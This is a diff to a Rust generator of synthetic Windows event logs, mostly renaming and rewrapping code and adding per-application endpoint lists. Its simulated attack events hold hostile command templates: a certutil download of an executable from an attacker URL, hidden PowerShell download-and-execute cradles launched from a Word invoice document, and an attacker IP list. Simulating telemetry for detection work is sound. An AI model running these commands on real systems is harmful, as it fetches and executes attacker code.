@@ -44,6 +44,11 @@ const MS_COMPANY: &str = "Microsoft Corporation";
 const MS_PRODUCT: &str = "Microsoft\u{ae} Windows\u{ae} Operating System";
 const MS_VERSION: &str = "10.0.19041.1 (WinBuild.160101.0800)";
 const SYSTEM_USER: &str = "NT AUTHORITY\\SYSTEM";
+/// `PrivilegeList` of a 4672 event for `SYSTEM`, with the separators Windows uses.
+const SYSTEM_PRIVILEGES: &str = "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\t\
+    SeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\t\
+    SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\t\
+    SeAuditPrivilege";
 
 // ---------------------------------------------------------------------------------------
 // PRNG
@@ -231,6 +236,29 @@ const WEB_SITES: &[(&str, &str)] = &[
     ("settings-win.data.microsoft.com", "20.42.73.29"),
     ("clients2.google.com", "142.250.184.206"),
 ];
+/// Microsoft 365 endpoints (addresses inside Microsoft's published 365 ranges).
+const MICROSOFT_365_SITES: &[(&str, &str)] = &[
+    ("outlook.office365.com", "52.97.146.162"),
+    ("outlook.office.com", "52.98.59.2"),
+    ("teams.microsoft.com", "52.113.194.132"),
+    ("login.microsoftonline.com", "20.190.159.2"),
+    ("contoso.sharepoint.com", "13.107.136.10"),
+    ("contoso-my.sharepoint.com", "13.107.138.10"),
+];
+/// Endpoints Windows services talk to.
+const WINDOWS_SITES: &[(&str, &str)] = &[
+    ("settings-win.data.microsoft.com", "20.42.73.29"),
+    ("v10.events.data.microsoft.com", "20.42.65.92"),
+    ("login.live.com", "20.190.159.2"),
+    ("ctldl.windowsupdate.com", "23.216.81.152"),
+    ("time.windows.com", "51.105.208.173"),
+];
+/// GitHub endpoints.
+const GITHUB_SITES: &[(&str, &str)] = &[
+    ("github.com", "140.82.121.4"),
+    ("api.github.com", "140.82.121.6"),
+    ("codeload.github.com", "140.82.121.10"),
+];
 const ATTACKER_IPS: &[&str] = &[
     "185.220.101.47",
     "45.137.21.9",
@@ -352,7 +380,7 @@ impl Proc {
     }
 
     /// Runs as an interactive domain user at medium integrity.
-    fn as_user(mut self, user: &User) -> Proc {
+    fn run_by(mut self, user: &User) -> Proc {
         self.user = user.qualified();
         self.integrity = "Medium";
         self
@@ -608,8 +636,16 @@ impl Generator {
                 let (group, svc, account) = *self.rng.pick(&[
                     ("netsvcs", "Schedule", SYSTEM_USER),
                     ("netsvcs", "gpsvc", SYSTEM_USER),
-                    ("LocalServiceNetworkRestricted", "Dhcp", "NT AUTHORITY\\LOCAL SERVICE"),
-                    ("NetworkService", "Dnscache", "NT AUTHORITY\\NETWORK SERVICE"),
+                    (
+                        "LocalServiceNetworkRestricted",
+                        "Dhcp",
+                        "NT AUTHORITY\\LOCAL SERVICE",
+                    ),
+                    (
+                        "NetworkService",
+                        "Dnscache",
+                        "NT AUTHORITY\\NETWORK SERVICE",
+                    ),
                     ("LocalSystemNetworkRestricted", "SysMain", SYSTEM_USER),
                     ("UnistackSvcGroup", "CDPUserSvc", SYSTEM_USER),
                     ("wsappx", "AppXSvc", SYSTEM_USER),
@@ -621,7 +657,9 @@ impl Generator {
                     "svchost.exe",
                     "Host Process for Windows Services",
                 )
-                .cmd(format!("C:\\Windows\\system32\\svchost.exe -k {group} -p -s {svc}"))
+                .cmd(format!(
+                    "C:\\Windows\\system32\\svchost.exe -k {group} -p -s {svc}"
+                ))
                 .run_as(account, "System")
             }
             1 => {
@@ -639,7 +677,8 @@ impl Generator {
                          --lang=en-US --service-sandbox-type=service {flags}"
                     ),
                     _ => format!(
-                        "\"{app}\" --type=gpu-process --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA {flags}"
+                        "\"{app}\" --type=gpu-process \
+                         --gpu-preferences=WAAAAAAAAADgAAAMAAAAAAAAAAAAAAAAAABgAAEAAAA {flags}"
                     ),
                 };
                 Proc::app(
@@ -653,7 +692,7 @@ impl Generator {
                 .cmd(cmd)
                 .parent(app, &format!("\"{app}\" --restore-last-session"))
                 .cwd("C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.202\\".to_owned())
-                .as_user(user)
+                .run_by(user)
                 .run_as(&user.qualified(), if kind == 0 { "Low" } else { "Medium" })
             }
             2 => {
@@ -672,29 +711,46 @@ impl Generator {
                      --lang=en-US --service-sandbox-type=none {flags}"
                 ))
                 .parent(app, &format!("\"{app}\" --profile-directory=Default"))
-                .as_user(user)
+                .run_by(user)
             }
-            3 => Proc::windows("C:\\Windows\\explorer.exe", "EXPLORER.EXE", "Windows Explorer")
-                .cmd("C:\\Windows\\Explorer.EXE".to_owned())
-                .parent("C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe")
-                .as_user(user),
+            3 => Proc::windows(
+                "C:\\Windows\\explorer.exe",
+                "EXPLORER.EXE",
+                "Windows Explorer",
+            )
+            .cmd("C:\\Windows\\Explorer.EXE".to_owned())
+            .parent(
+                "C:\\Windows\\System32\\userinit.exe",
+                "C:\\Windows\\system32\\userinit.exe",
+            )
+            .run_by(user),
             4 => {
                 let app = format!("{home}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe");
                 let cmd = format!(
                     "\"{app}\" --type=renderer --autoplay-policy=no-user-gesture-required \
-                     --lang=en-US --renderer-client-id={} --mojo-platform-channel-handle={} /prefetch:1",
+                     --lang=en-US --renderer-client-id={} \
+                     --mojo-platform-channel-handle={} /prefetch:1",
                     self.rng.between(5, 60),
                     self.rng.between(2000, 4000)
                 );
-                Proc::app(app.clone(), "Teams.exe", "Microsoft Teams", "Microsoft Teams", MS_COMPANY)
-                    .version("1.7.00.6058")
-                    .cmd(cmd)
-                    .parent(&app, &format!("\"{app}\" --system-initiated"))
-                    .cwd(format!("{home}\\AppData\\Local\\Microsoft\\Teams\\current\\"))
-                    .as_user(user)
+                Proc::app(
+                    app.clone(),
+                    "Teams.exe",
+                    "Microsoft Teams",
+                    "Microsoft Teams",
+                    MS_COMPANY,
+                )
+                .version("1.7.00.6058")
+                .cmd(cmd)
+                .parent(&app, &format!("\"{app}\" --system-initiated"))
+                .cwd(format!(
+                    "{home}\\AppData\\Local\\Microsoft\\Teams\\current\\"
+                ))
+                .run_by(user)
             }
             5 => {
-                let app = format!("{home}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe");
+                let app =
+                    format!("{home}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe");
                 let repo = self.rng.pick(REPOS);
                 let args = match self.rng.below(5) {
                     0 => "-m pytest tests\\unit -q --maxfail=1".to_owned(),
@@ -706,15 +762,21 @@ impl Generator {
                     3 => "manage.py runserver 127.0.0.1:8000".to_owned(),
                     _ => "-m black --check src tests".to_owned(),
                 };
-                Proc::app(app.clone(), "python.exe", "Python", "Python", "Python Software Foundation")
-                    .version("3.11.9")
-                    .cmd(format!("\"{app}\" {args}"))
-                    .parent(
-                        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
-                        "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
-                    )
-                    .cwd(format!("{home}\\source\\repos\\{repo}\\"))
-                    .as_user(user)
+                Proc::app(
+                    app.clone(),
+                    "python.exe",
+                    "Python",
+                    "Python",
+                    "Python Software Foundation",
+                )
+                .version("3.11.9")
+                .cmd(format!("\"{app}\" {args}"))
+                .parent(
+                    "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
+                    "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
+                )
+                .cwd(format!("{home}\\source\\repos\\{repo}\\"))
+                .run_by(user)
             }
             6 => {
                 let repo = self.rng.pick(REPOS);
@@ -738,20 +800,28 @@ impl Generator {
                 .cmd(format!("\"C:\\Program Files\\Git\\cmd\\git.exe\" {args}"))
                 .parent(&code, &format!("\"{code}\""))
                 .cwd(format!("{home}\\source\\repos\\{repo}\\"))
-                .as_user(user)
+                .run_by(user)
             }
             7 => {
                 let app = format!("{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe");
                 let flags = self.chromium_flags();
-                Proc::app(app.clone(), "electron.exe", "Visual Studio Code", "Visual Studio Code", MS_COMPANY)
-                    .version("1.89.1")
-                    .cmd(format!(
-                        "\"{app}\" --type=utility --utility-sub-type=node.mojom.NodeService \
+                Proc::app(
+                    app.clone(),
+                    "electron.exe",
+                    "Visual Studio Code",
+                    "Visual Studio Code",
+                    MS_COMPANY,
+                )
+                .version("1.89.1")
+                .cmd(format!(
+                    "\"{app}\" --type=utility --utility-sub-type=node.mojom.NodeService \
                          --lang=en-US --service-sandbox-type=none {flags}"
-                    ))
-                    .parent(&app, &format!("\"{app}\""))
-                    .cwd(format!("{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\"))
-                    .as_user(user)
+                ))
+                .parent(&app, &format!("\"{app}\""))
+                .cwd(format!(
+                    "{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\"
+                ))
+                .run_by(user)
             }
             8 => {
                 let repo = self.rng.pick(REPOS);
@@ -778,7 +848,7 @@ impl Generator {
                     "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
                 )
                 .cwd(format!("{home}\\source\\repos\\{repo}\\"))
-                .as_user(user)
+                .run_by(user)
             }
             9 => Proc::windows(
                 "C:\\Windows\\System32\\conhost.exe",
@@ -790,7 +860,7 @@ impl Generator {
                 "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
                 "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
             )
-            .as_user(user),
+            .run_by(user),
             10 => Proc::windows(
                 "C:\\Windows\\System32\\RuntimeBroker.exe",
                 "RuntimeBroker.exe",
@@ -801,32 +871,52 @@ impl Generator {
                 "C:\\Windows\\System32\\svchost.exe",
                 "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
             )
-            .as_user(user),
+            .run_by(user),
             11 => {
                 let clsid = self.rng.upper_guid();
-                Proc::windows("C:\\Windows\\System32\\dllhost.exe", "dllhost.exe", "COM Surrogate")
-                    .cmd(format!("C:\\Windows\\system32\\DllHost.exe /Processid:{clsid}"))
-                    .parent(
-                        "C:\\Windows\\System32\\svchost.exe",
-                        "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
-                    )
-                    .as_user(user)
+                Proc::windows(
+                    "C:\\Windows\\System32\\dllhost.exe",
+                    "dllhost.exe",
+                    "COM Surrogate",
+                )
+                .cmd(format!(
+                    "C:\\Windows\\system32\\DllHost.exe /Processid:{clsid}"
+                ))
+                .parent(
+                    "C:\\Windows\\System32\\svchost.exe",
+                    "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
+                )
+                .run_by(user)
             }
             12 => {
                 let doc = self.rng.pick(DOCUMENTS);
                 let app = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
-                Proc::app(app.to_owned(), "WinWord.exe", "Microsoft Word", "Microsoft Office", MS_COMPANY)
-                    .version("16.0.17531.20152")
-                    .cmd(format!("\"{app}\" /n \"{home}\\Documents\\{doc}.docx\" /o \"\""))
-                    .cwd(format!("{home}\\Documents\\"))
-                    .as_user(user)
+                Proc::app(
+                    app.to_owned(),
+                    "WinWord.exe",
+                    "Microsoft Word",
+                    "Microsoft Office",
+                    MS_COMPANY,
+                )
+                .version("16.0.17531.20152")
+                .cmd(format!(
+                    "\"{app}\" /n \"{home}\\Documents\\{doc}.docx\" /o \"\""
+                ))
+                .cwd(format!("{home}\\Documents\\"))
+                .run_by(user)
             }
             13 => {
                 let app = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
-                Proc::app(app.to_owned(), "Outlook.exe", "Microsoft Outlook", "Microsoft Outlook", MS_COMPANY)
-                    .version("16.0.17531.20152")
-                    .cmd(format!("\"{app}\" /recycle"))
-                    .as_user(user)
+                Proc::app(
+                    app.to_owned(),
+                    "Outlook.exe",
+                    "Microsoft Outlook",
+                    "Microsoft Outlook",
+                    MS_COMPANY,
+                )
+                .version("16.0.17531.20152")
+                .cmd(format!("\"{app}\" /recycle"))
+                .run_by(user)
             }
             14 => {
                 let dir = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0";
@@ -843,20 +933,28 @@ impl Generator {
                     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                 )
             }
-            15 => Proc::windows("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", "Host Process for Windows Tasks")
-                .cmd("taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly".to_owned())
-                .parent(
-                    "C:\\Windows\\System32\\svchost.exe",
-                    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
-                ),
+            15 => Proc::windows(
+                "C:\\Windows\\System32\\taskhostw.exe",
+                "taskhostw.exe",
+                "Host Process for Windows Tasks",
+            )
+            .cmd(
+                "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly".to_owned(),
+            )
+            .parent(
+                "C:\\Windows\\System32\\svchost.exe",
+                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
+            ),
             16 => Proc::windows(
                 "C:\\Windows\\System32\\SearchProtocolHost.exe",
                 "SearchProtocolHost.exe",
                 "Microsoft Windows Search Protocol Host",
             )
             .cmd(format!(
-                "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{n}_ \
-                 Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\"",
+                "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" \
+                 Global\\UsGthrFltPipeMssGthrPipe{n}_ \
+                 Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 \
+                 \"Software\\Microsoft\\Windows Search\"",
                 n = self.rng.between(1, 300)
             ))
             .parent(
@@ -875,13 +973,19 @@ impl Generator {
                     self.rng.between(30_000, 40_000),
                     self.rng.between(1000, 9999)
                 );
-                Proc::app(app.to_owned(), "firefox.exe", "Firefox", "Firefox", "Mozilla Corporation")
-                    .version("126.0")
-                    .cmd(cmd)
-                    .parent(app, &format!("\"{app}\""))
-                    .cwd("C:\\Program Files\\Mozilla Firefox\\".to_owned())
-                    .as_user(user)
-                    .run_as(&user.qualified(), "Low")
+                Proc::app(
+                    app.to_owned(),
+                    "firefox.exe",
+                    "Firefox",
+                    "Firefox",
+                    "Mozilla Corporation",
+                )
+                .version("126.0")
+                .cmd(cmd)
+                .parent(app, &format!("\"{app}\""))
+                .cwd("C:\\Program Files\\Mozilla Firefox\\".to_owned())
+                .run_by(user)
+                .run_as(&user.qualified(), "Low")
             }
             18 => Proc::windows(
                 "C:\\Windows\\System32\\backgroundTaskHost.exe",
@@ -897,15 +1001,25 @@ impl Generator {
                 "C:\\Windows\\System32\\svchost.exe",
                 "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
             )
-            .as_user(user),
-            19 => Proc::windows("C:\\Windows\\System32\\msiexec.exe", "msiexec.exe", "Windows\u{ae} installer")
-                .cmd("C:\\Windows\\system32\\msiexec.exe /V".to_owned()),
+            .run_by(user),
+            19 => Proc::windows(
+                "C:\\Windows\\System32\\msiexec.exe",
+                "msiexec.exe",
+                "Windows\u{ae} installer",
+            )
+            .cmd("C:\\Windows\\system32\\msiexec.exe /V".to_owned()),
             20 => {
                 let app = format!("{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe");
-                Proc::app(app.clone(), "OneDrive.exe", "Microsoft OneDrive", "Microsoft OneDrive", MS_COMPANY)
-                    .version("24.086.0428.0003")
-                    .cmd(format!("\"{app}\" /background"))
-                    .as_user(user)
+                Proc::app(
+                    app.clone(),
+                    "OneDrive.exe",
+                    "Microsoft OneDrive",
+                    "Microsoft OneDrive",
+                    MS_COMPANY,
+                )
+                .version("24.086.0428.0003")
+                .cmd(format!("\"{app}\" /background"))
+                .run_by(user)
             }
             21 => {
                 let repo = self.rng.pick(REPOS);
@@ -916,37 +1030,59 @@ impl Generator {
                     "fmt --check",
                 ]);
                 let code = format!("{home}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe");
-                Proc::app(format!("{home}\\.cargo\\bin\\cargo.exe"), "cargo.exe", "-", "-", "-")
-                    .cmd(format!("{home}\\.cargo\\bin\\cargo.exe {args}"))
-                    .parent(&code, &format!("\"{code}\""))
-                    .cwd(format!("{home}\\source\\repos\\{repo}\\"))
-                    .as_user(user)
+                Proc::app(
+                    format!("{home}\\.cargo\\bin\\cargo.exe"),
+                    "cargo.exe",
+                    "-",
+                    "-",
+                    "-",
+                )
+                .cmd(format!("{home}\\.cargo\\bin\\cargo.exe {args}"))
+                .parent(&code, &format!("\"{code}\""))
+                .cwd(format!("{home}\\source\\repos\\{repo}\\"))
+                .run_by(user)
             }
             22 => {
-                let jdk = "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.11.9-hotspot\\bin\\java.exe";
+                let jdk =
+                    "C:\\Program Files\\Eclipse Adoptium\\jdk-17.0.11.9-hotspot\\bin\\java.exe";
                 let repo = self.rng.pick(REPOS);
-                Proc::app(jdk.to_owned(), "java.exe", "OpenJDK Platform binary", "OpenJDK Platform 17.0.11", "Eclipse Adoptium")
-                    .version("17.0.11.0")
-                    .cmd(format!(
-                        "\"{jdk}\" -Xmx2048m -Dfile.encoding=UTF-8 -cp \
-                         {home}\\.gradle\\wrapper\\dists\\gradle-8.7-bin\\lib\\gradle-launcher-8.7.jar \
+                Proc::app(
+                    jdk.to_owned(),
+                    "java.exe",
+                    "OpenJDK Platform binary",
+                    "OpenJDK Platform 17.0.11",
+                    "Eclipse Adoptium",
+                )
+                .version("17.0.11.0")
+                .cmd(format!(
+                    "\"{jdk}\" -Xmx2048m -Dfile.encoding=UTF-8 -cp \
+                         {home}\\.gradle\\wrapper\\dists\\gradle-8.7-bin\\lib\\\
+                         gradle-launcher-8.7.jar \
                          org.gradle.launcher.GradleMain build -x test"
-                    ))
-                    .parent(
-                        "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
-                        "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
-                    )
-                    .cwd(format!("{home}\\source\\repos\\{repo}\\"))
-                    .as_user(user)
+                ))
+                .parent(
+                    "C:\\Program Files\\PowerShell\\7\\pwsh.exe",
+                    "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo",
+                )
+                .cwd(format!("{home}\\source\\repos\\{repo}\\"))
+                .run_by(user)
             }
             _ => {
                 let app = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
                 let doc = self.rng.pick(DOCUMENTS);
-                Proc::app(app.to_owned(), "Excel.exe", "Microsoft Excel", "Microsoft Office", MS_COMPANY)
-                    .version("16.0.17531.20152")
-                    .cmd(format!("\"{app}\" \"{home}\\OneDrive - Contoso\\{doc}.xlsx\""))
-                    .cwd(format!("{home}\\Documents\\"))
-                    .as_user(user)
+                Proc::app(
+                    app.to_owned(),
+                    "Excel.exe",
+                    "Microsoft Excel",
+                    "Microsoft Office",
+                    MS_COMPANY,
+                )
+                .version("16.0.17531.20152")
+                .cmd(format!(
+                    "\"{app}\" \"{home}\\OneDrive - Contoso\\{doc}.xlsx\""
+                ))
+                .cwd(format!("{home}\\Documents\\"))
+                .run_by(user)
             }
         }
     }
@@ -1045,43 +1181,47 @@ impl Generator {
     fn network_connection(&mut self) -> Value {
         let host = self.host();
         let u = self.user();
-        let (image, user) = match self.rng.below(8) {
+        let home = self.users[u].home();
+        let qualified = self.users[u].qualified();
+        // Each program talks to the services it is made for.
+        let (image, user, sites) = match self.rng.below(8) {
             0 | 1 => (
                 "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_owned(),
-                self.users[u].qualified(),
+                qualified,
+                WEB_SITES,
             ),
             2 => (
                 "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe".to_owned(),
-                self.users[u].qualified(),
+                qualified,
+                WEB_SITES,
             ),
             3 => (
-                format!(
-                    "{}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
-                    self.users[u].home()
-                ),
-                self.users[u].qualified(),
+                format!("{home}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"),
+                qualified,
+                MICROSOFT_365_SITES,
             ),
             4 => (
                 "C:\\Windows\\System32\\svchost.exe".to_owned(),
                 "NT AUTHORITY\\NETWORK SERVICE".to_owned(),
+                WINDOWS_SITES,
             ),
             5 => (
-                format!(
-                    "{}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
-                    self.users[u].home()
-                ),
-                self.users[u].qualified(),
+                format!("{home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"),
+                qualified,
+                MICROSOFT_365_SITES,
             ),
             6 => (
                 "C:\\Program Files\\Git\\mingw64\\bin\\git-remote-https.exe".to_owned(),
-                self.users[u].qualified(),
+                qualified,
+                GITHUB_SITES,
             ),
             _ => (
                 "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".to_owned(),
-                self.users[u].qualified(),
+                qualified,
+                MICROSOFT_365_SITES,
             ),
         };
-        let &(dest_host, dest_ip) = self.rng.pick(WEB_SITES);
+        let &(dest_host, dest_ip) = self.rng.pick(sites);
         let guid = self.rng.guid();
         let pid = self.pid();
         let src_port = self.rng.between(49_152, 65_535);
@@ -1122,7 +1262,8 @@ impl Generator {
             0 | 1 => (
                 "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe".to_owned(),
                 format!(
-                    "{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_{}",
+                    "{home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\\
+                     Cache\\Cache_Data\\f_{}",
                     self.rng.hex(6, false)
                 ),
             ),
@@ -1160,7 +1301,8 @@ impl Generator {
             _ => (
                 "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".to_owned(),
                 format!(
-                    "{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}\\image{:03}.png",
+                    "{home}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\\
+                     Content.Outlook\\{}\\image{:03}.png",
                     self.rng.hex(8, true),
                     self.rng.between(1, 120)
                 ),
@@ -1191,7 +1333,8 @@ impl Generator {
                 "SetValue",
                 "C:\\Windows\\explorer.exe".to_owned(),
                 format!(
-                    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\\
+                    "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\\
+                     UserAssist\\\
                      {{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}}\\Count\\{}",
                     self.rng.letters(12)
                 ),
@@ -1201,7 +1344,8 @@ impl Generator {
                 "SetValue",
                 "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".to_owned(),
                 format!(
-                    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\{}_ADAL\\LastSwitchedTime",
+                    "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\\
+                     {}_ADAL\\LastSwitchedTime",
                     self.rng.hex(32, false)
                 ),
                 format!(
@@ -1238,7 +1382,8 @@ impl Generator {
                 "CreateKey",
                 "C:\\Windows\\System32\\svchost.exe".to_owned(),
                 format!(
-                    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Notifications\\Data\\{}",
+                    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\\
+                     Notifications\\Data\\{}",
                     self.rng.hex(16, true)
                 ),
                 String::new(),
@@ -1247,7 +1392,8 @@ impl Generator {
                 "SetValue",
                 "C:\\Windows\\System32\\svchost.exe".to_owned(),
                 format!(
-                    "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{}\\DhcpIPAddress",
+                    "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\\
+                     Interfaces\\{}\\DhcpIPAddress",
                     self.rng.guid()
                 ),
                 self.hosts[host].ip.clone(),
@@ -1514,12 +1660,7 @@ impl Generator {
             .s("SubjectUserName", "SYSTEM")
             .s("SubjectDomainName", "NT AUTHORITY")
             .s("SubjectLogonId", logon_id)
-            .s(
-                "PrivilegeList",
-                "SeAssignPrimaryTokenPrivilege\r\n\t\t\tSeTcbPrivilege\r\n\t\t\tSeSecurityPrivilege\r\n\t\t\t\
-                 SeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\t\
-                 SeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeAuditPrivilege",
-            )
+            .s("PrivilegeList", SYSTEM_PRIVILEGES)
             .done()
     }
 
@@ -1529,12 +1670,21 @@ impl Generator {
         let u = self.user();
         let home = self.users[u].home();
         let text = match self.rng.below(6) {
-            0 => "Get-ChildItem -Path D:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Measure-Object".to_owned(),
-            1 => "Import-Module Az.Accounts; Connect-AzAccount -Identity | Out-Null; Get-AzVM -Status | Select-Object Name, PowerState".to_owned(),
+            0 => "Get-ChildItem -Path D:\\Logs -Filter *.log | \
+                 Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Measure-Object"
+                .to_owned(),
+            1 => "Import-Module Az.Accounts; Connect-AzAccount -Identity | Out-Null; \
+                 Get-AzVM -Status | Select-Object Name, PowerState"
+                .to_owned(),
             2 => "prompt".to_owned(),
-            3 => format!("Set-Location -LiteralPath '{home}\\source\\repos\\{}'", self.rng.pick(REPOS)),
+            3 => format!(
+                "Set-Location -LiteralPath '{home}\\source\\repos\\{}'",
+                self.rng.pick(REPOS)
+            ),
             4 => "$PSVersionTable.PSVersion".to_owned(),
-            _ => "Get-Service -Name Spooler, W32Time | Select-Object Name, Status, StartType | Format-Table -AutoSize".to_owned(),
+            _ => "Get-Service -Name Spooler, W32Time | \
+                 Select-Object Name, Status, StartType | Format-Table -AutoSize"
+                .to_owned(),
         };
         let id = self.rng.guid();
         self.script_block(host, text, id, String::new())
@@ -1563,7 +1713,8 @@ impl Generator {
         let &(name, path) = self.rng.pick(&[
             (
                 "Google Chrome Elevation Service (GoogleChromeElevationService)",
-                "\"C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.202\\elevation_service.exe\"",
+                "\"C:\\Program Files\\Google\\Chrome\\Application\\124.0.6367.202\\\
+                 elevation_service.exe\"",
             ),
             (
                 "Microsoft Edge Update Service (edgeupdate)",
@@ -1622,16 +1773,24 @@ impl Generator {
         let kind = self.rng.below(34);
         let proc = match kind {
             0 => Some(
-                Proc::windows(&sys32("whoami.exe"), "whoami.exe", "whoami - displays logged on user information")
-                    .cmd("whoami  /priv".to_owned())
-                    .parent(cmd_parent.0, cmd_parent.1)
-                    .as_user(user),
+                Proc::windows(
+                    &sys32("whoami.exe"),
+                    "whoami.exe",
+                    "whoami - displays logged on user information",
+                )
+                .cmd("whoami  /priv".to_owned())
+                .parent(cmd_parent.0, cmd_parent.1)
+                .run_by(user),
             ),
             1 => Some(
-                Proc::windows(&sys32("whoami.exe"), "whoami.exe", "whoami - displays logged on user information")
-                    .cmd("whoami /all".to_owned())
-                    .parent(cmd_parent.0, cmd_parent.1)
-                    .as_user(user),
+                Proc::windows(
+                    &sys32("whoami.exe"),
+                    "whoami.exe",
+                    "whoami - displays logged on user information",
+                )
+                .cmd("whoami /all".to_owned())
+                .parent(cmd_parent.0, cmd_parent.1)
+                .run_by(user),
             ),
             2 => {
                 let (url, name) = self.attacker_url("exe");
@@ -1641,13 +1800,15 @@ impl Generator {
                             "certutil.exe -urlcache -split -f {url} C:\\Users\\Public\\{name}.exe"
                         ))
                         .parent(cmd_parent.0, cmd_parent.1)
-                        .as_user(user),
+                        .run_by(user),
                 )
             }
             3 => {
                 let (url, _) = self.attacker_url("ps1");
                 let script = format!(
-                    "$c=New-Object Net.WebClient;$c.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;IEX $c.DownloadString('{url}')"
+                    "$c=New-Object Net.WebClient;\
+                     $c.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;\
+                     IEX $c.DownloadString('{url}')"
                 );
                 Some(
                     Proc::windows(
@@ -1662,11 +1823,12 @@ impl Generator {
                     .parent(
                         "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                         &format!(
-                            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{home}\\Downloads\\Invoice_{}.doc\"",
+                            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" \
+                             /n \"{home}\\Downloads\\Invoice_{}.doc\"",
                             self.rng.between(1000, 9999)
                         ),
                     )
-                    .as_user(user),
+                    .run_by(user),
                 )
             }
             4 => {
@@ -1678,43 +1840,62 @@ impl Generator {
                         "Windows PowerShell",
                     )
                     .cmd(format!(
-                        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('{url}')\""
+                        "powershell.exe -nop -w hidden -c \
+                         \"IEX (New-Object Net.WebClient).DownloadString('{url}')\""
                     ))
                     .parent(cmd_parent.0, cmd_parent.1)
-                    .as_user(user),
+                    .run_by(user),
                 )
             }
             5 => {
                 let lsass = self.pid();
                 Some(
